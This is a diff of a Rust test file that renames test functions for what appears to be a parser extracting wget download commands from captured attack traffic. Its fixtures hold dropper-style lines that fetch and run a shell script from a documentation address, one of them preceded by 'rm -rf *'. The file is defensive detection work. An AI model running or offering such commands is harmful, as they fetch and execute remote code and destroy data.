@@ -12,7 +12,7 @@ fn shown(text: &str) -> String {
 }
 
 #[test]
-fn every_form_of_every_tool_is_read() {
+fn parses_every_form_of_every_tool() {
     for (text, expected) in [
         ("wget http://192.0.2.1/bins/a.sh", "wget 192.0.2.1 /bins/a.sh a.sh"),
         ("wget http://192.0.2.1:8080/a.sh -O /tmp/x", "wget 192.0.2.1:8080 /a.sh a.sh"),
@@ -43,7 +43,7 @@ fn every_form_of_every_tool_is_read() {
 }
 
 #[test]
-fn commands_are_found_behind_every_encoding() {
+fn finds_commands_behind_every_encoding() {
     let expected = "wget 192.0.2.1:81 /a.sh a.sh";
     for text in [
         "cd+/tmp;rm+-rf+*;wget+http://192.0.2.1:81/a.sh;sh+a.sh",
@@ -63,7 +63,7 @@ fn commands_are_found_behind_every_encoding() {
 }
 
 #[test]
-fn words_that_only_look_like_commands_are_none() {
+fn ignores_words_that_resemble_commands() {
     for text in [
         "",
         "wget",
@@ -87,7 +87,7 @@ fn words_that_only_look_like_commands_are_none() {
 }
 
 #[test]
-fn a_quote_that_is_not_closed_ends_with_its_line() {
+fn unclosed_quote_ends_at_its_line() {
     assert_eq!(shown("wget 'http://192.0.2.1/a"), "wget 192.0.2.1 /a a");
     assert_eq!(shown("wget '\nwget http://192.0.2.1/a"), "wget 192.0.2.1 /a a");
 }
